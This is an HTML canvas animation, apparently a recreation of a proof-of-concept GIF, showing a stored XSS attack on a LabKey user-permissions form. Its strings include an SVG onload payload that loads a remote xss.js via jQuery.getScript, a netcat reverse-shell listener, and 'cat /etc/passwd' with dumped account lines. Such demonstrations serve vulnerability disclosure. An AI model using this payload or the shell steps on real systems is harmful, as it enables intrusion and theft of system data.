
An HTML page with a canvas that plays this animation: 640 px wide and 469 px high, repeating every 6.28 s.

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Form and terminal</title>
<style>
html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #323338; }
canvas { display: block; }
</style>
</head>
<body>
<canvas id="stage" width="640" height="469"></canvas>
<script>
const ctx = document.getElementById('stage').getContext('2d');
const LOOP = 6280;
const COL = 8.127, ROW = 17.15, TOP = 281;
const HOST = 'rulo@tevi', TITLE = HOST + ': ~';
const COMMAND = 'cat /etc/passwd';
const KEY_TIMES = [3400, 3560, 3720, 3800, 4320, 4480, 4720, 4880, 4960, 5280, 5360, 5480, 5560, 5720, 5960];
const PATH = [
  [240, 503, 388], [320, 440, 300], [400, 345, 185], [480, 270, 115], [560, 236, 92], [640, 230.5, 88],
  [1760, 230.5, 88], [1840, 222, 135], [1920, 212, 178], [2320, 175, 242], [2640, 169, 258], [3400, 169, 258]
];
const CLICKS = [[1000, 230.5, 87.5], [2920, 169.5, 259]];
const SERVER = [
  '[2019/10/15 00:35:14]', '$python -m SimpleHTTPServer 80', 'Serving HTTP on 0.0.0.0 port 80 ...'
];
const REQUEST = ['127.0.0.1 - - [15/Oct/2019 00:36:40] "GET /xss.js?_=1571114189444 HTTP/1.1" 200', ' -'];
const LISTENER = [
  '[2019/10/15 00:35:11]', '$nc -nvlp 8999', 'listening on [any] 8999 ...',
  'connect to [127.0.0.1] from (UNKNOWN) [127.0.0.1] 50134'
];
const ACCOUNTS = [
  'colord:x:125:132:colord colour management daemon,,,:/var/lib/colord:/usr/sbin/n',
  'ologin',
  'saned:x:126:134::/var/lib/saned:/usr/sbin/nologin',
  'speech-dispatcher:x:127:29:Speech Dispatcher,,,:/var/run/speech-dispatcher:/bin',
  '/false',
  'avahi:x:128:135:Avahi mDNS daemon,,,:/var/run/avahi-daemon:/usr/sbin/nologin',
  'pulse:x:129:136:PulseAudio daemon,,,:/var/run/pulse:/usr/sbin/nologin',
  'gluster:x:130:138::/var/lib/glusterd:/usr/sbin/nologin',
  'Debian-gdm:x:131:139:Gnome Display Manager:/var/lib/gdm3:/bin/false',
  'king-phisher:x:132:140::/var/lib/king-phisher:/usr/sbin/nologin',
  'dradis:x:133:141::/var/lib/dradis:/usr/sbin/nologin'
];

function rect(x, y, w, h, fill) {
  ctx.fillStyle = fill;
  ctx.fillRect(x, y, w, h);
}

function frame(x, y, w, h, fill, stroke) {
  rect(x, y, w, h, fill);
  ctx.strokeStyle = stroke;
  ctx.lineWidth = 1;
  ctx.strokeRect(x + .5, y + .5, w - 1, h - 1);
}

function disc(x, y, r, fill) {
  ctx.fillStyle = fill;
  ctx.beginPath();
  ctx.arc(x, y, r, 0, 7);
  ctx.fill();
}

function line(color, width, ...points) {
  ctx.strokeStyle = color;
  ctx.lineWidth = width;
  ctx.beginPath();
  points.forEach(([x, y]) => ctx.lineTo(x, y));
  ctx.stroke();
}

function fade(y, h, from, to) {
  const g = ctx.createLinearGradient(0, y, 0, y + h);
  g.addColorStop(0, from);
  g.addColorStop(1, to);
  return g;
}

function text(str, x, y, font, color, align = 'left', spacing = 0) {
  ctx.font = font;
  ctx.fillStyle = color;
  ctx.textAlign = align;
  ctx.letterSpacing = spacing + 'px';
  ctx.fillText(str, x, y);
}

const roboto = (size, weight = 400) => `${weight} ${size}px Roboto, sans-serif`;
const inter = (size, weight = 400) => `${weight} ${size}px Inter, sans-serif`;

function checkbox(y) {
  ctx.fillStyle = '#3380dc';
  ctx.beginPath();
  ctx.roundRect(12, y, 13, 13, 2);
  ctx.fill();
  line('#fff', 2, [14.8, y + 6.8], [17.3, y + 9.3], [22.2, y + 3.7]);
}

function button(label, x, y, w, border, color) {
  frame(x, y, w, 22, fade(y, 22, '#fcfcfc', '#f0f0f0'), border);
  text(label, x + w / 2, y + 14.2, roboto(10, 700), color, 'center', .25);
}

function page(t) {
  rect(0, 0, 640, 197, '#f8f8f8');
  frame(12, -5, 479, 69, '#fff', '#b0b0b0');
  line('#999', .8, [482, 62], [489, 55]);
  line('#999', .8, [486, 62], [489, 59]);
  checkbox(83);
  checkbox(103);
  text('Clone permissions from user:', 28, 95.5, roboto(11.25), '#333');
  text('Send notification emails to all new users', 28, 115.2, roboto(11.25), '#333');
  frame(174, 82, 247, 20, '#fff', '#b0b0b0');
  if (t >= 1440) text('d', 176, 95.3, roboto(11.5), '#333');
  if (t >= 560 && t < 2400) rect(t < 1440 ? 176 : 182, 85, 1, 13, '#333');
  button('Permissions', 421, 81, 73, '#a0a0a0', '#555');
  button('Add Users', 12, 137, 64, '#ec8466', '#e0522c');
  button('Done', 78, 137, 39, '#a0a0a0', '#555');
  text('Powered by LabKey', 320, 190.5, roboto(11.5), '#2a6d9e', 'center');
  if (t >= 1760 && t < 3320) suggestions(Math.min(1, (t - 1680) / 600));
  const focused = t >= 3160, h = focused ? 15 : 6;
  rect(0, 197 - h, 640, h, fade(197 - h, h, 'rgba(0,0,0,0)', `rgba(0,0,0,${focused ? .1 : .05})`));
}

function suggestions(alpha) {
  ctx.globalAlpha = alpha;
  frame(174, 103, 247, 68, '#fff', '#b5b8c8');
  rect(176, 104, 243, 49, '#3594d2');
  const font = roboto(11.45);
  ['adept<svg', "onload=jQuery.getScript('http://127.0.0.1", "/xss.js')> (adeptuser@adept.example)"]
    .forEach((s, i) => text(s, 177, 116.3 + i * 16.3, font, '#fff'));
  text('Administrator (trainer@lab.example)', 177, 165.3, font, '#333');
  ctx.globalAlpha = 1;
}

function tab(x, active, hover) {
  if (active || hover) rect(x, 247, 287, 33, active ? '#323338' : '#2e2f34');
  if (active || hover) rect(x, 278, 287, 2, active ? '#56a59b' : '#55575c');
  text(TITLE, x + 143.5, 268, inter(12.6), active ? '#d4d5d6' : '#a4a6a9', 'center');
  line('#c4c5c7', 2, [x + 264, 260], [x + 270, 266]);
  line('#c4c5c7', 2, [x + 270, 260], [x + 264, 266]);
}

function windowBars(t) {
  const focused = t >= 3320;
  rect(0, 197, 640, 272, '#323338');
  rect(0, 197, 640, 50, '#35363b');
  rect(0, 197, 640, 2, '#25262a');
  rect(176, 197, 56, 1, '#2b4050');
  rect(456, 197, 56, 1, '#2b4050');
  rect(597, 197, 43, 2, '#88898c');
  text(TITLE, 325, 216, inter(13.6, 500), focused ? '#e6e6e7' : '#a9abae', 'center');
  ['#c1b83f', '#2eb398', '#e0605c'].forEach((c, i) => disc(584.5 + i * 26, 211.5, 5.3, focused ? c : '#808286'));
  [['File', 5], ['Edit', 39], ['View', 77], ['Search', 119], ['Terminal', 173], ['Tabs', 239], ['Help', 280]]
    .forEach(([s, x]) => text(s, x, 239.7, inter(12.7), '#cfd0d2'));
  rect(0, 247, 640, 33, '#2a2b2f');
  tab(5, focused, t >= 2520);
  tab(292, !focused, false);
  ctx.strokeStyle = '#d0d1d3';
  ctx.lineWidth = 1.4;
  ctx.strokeRect(596.5, 258, 11, 9);
  line('#d0d1d3', 1.4, [599, 262.5], [605, 262.5]);
  line('#d0d1d3', 1.4, [602, 259.5], [602, 265.5]);
  line('#d0d1d3', 1.4, [595.8, 269], [608.2, 269]);
  ctx.fillStyle = '#d0d1d3';
  ctx.beginPath();
  ctx.moveTo(631.5, 261.5);
  ctx.lineTo(639.5, 261.5);
  ctx.lineTo(635.5, 265.8);
  ctx.fill();
}

// Each character is centred in its own terminal cell.
function cells(str, col, row, color = '#dfe0e0', weight = 400) {
  const font = `${weight} 13px "Noto Sans Mono", monospace`;
  [...str].forEach((ch, i) => text(ch, (col + i + .5) * COL - .3, TOP + row * ROW + 12.8, font, color, 'center'));
}

function output(lines) {
  lines.forEach((str, row) => {
    if (str[0] !== '$') return cells(str, 0, row);
    cells(HOST, 0, row, '#e0585c', 700);
    cells(':', 9, row);
    cells('~', 10, row, '#4f96cf', 700);
    cells('# ' + str.slice(1), 11, row);
  });
}

function terminal(t) {
  if (t >= 6120) return output(ACCOUNTS);
  if (t >= 3320) {
    const typed = COMMAND.slice(0, KEY_TIMES.filter(k => k <= t).length);
    output([...LISTENER, typed]);
    return rect(Math.round(typed.length * COL) - .5, 349, 8, 17, '#e2e3e3');
  }
  const lines = t >= 1840 ? [...SERVER, ...REQUEST] : SERVER;
  output(lines);
  ctx.strokeStyle = '#dfe0e0';
  ctx.lineWidth = 1;
  ctx.strokeRect(.5, Math.round(TOP + lines.length * ROW) - .5, 7, 18);
}

function pointer(t) {
  if (t < 240 || t >= 3400) return;
  for (const [start, x, y] of CLICKS)
    if (t >= start && t < start + 80) disc(x, y, 29, 'rgba(255,250,0,.55)');
  const step = Math.floor(t / 80) * 80;
  const i = PATH.findIndex(p => p[0] > step);
  const [t0, x0, y0] = PATH[i - 1], [t1, x1, y1] = PATH[i];
  const k = (step - t0) / (t1 - t0);
  const x = x0 + (x1 - x0) * k, y = y0 + (y1 - y0) * k;
  if (y > 282 || y < 100) {
    for (const [color, w] of [['#ddd', 3], ['#333', 1.4]]) {
      line(color, w, [x, y - 6], [x, y + 6]);
      line(color, w, [x - 3, y - 6.5], [x + 3, y - 6.5]);
      line(color, w, [x - 3, y + 6.5], [x + 3, y + 6.5]);
    }
    return;
  }
  ctx.beginPath();
  [[0, 0], [0, 12], [2.7, 9.5], [4.6, 13.8], [6.5, 13], [4.7, 8.8], [8.4, 8.5]]
    .forEach(([dx, dy]) => ctx.lineTo(x + dx, y + dy));
  ctx.closePath();
  ctx.lineWidth = 2;
  ctx.strokeStyle = '#fff';
  ctx.stroke();
  ctx.fillStyle = '#111';
  ctx.fill();
}

function draw() {
  const t = performance.now() % LOOP;
  ctx.textRendering = 'geometricPrecision';
  page(t);
  windowBars(t);
  terminal(t);
  pointer(t);
  requestAnimationFrame(draw);
}
draw();
</script>
</body>
</html>
```
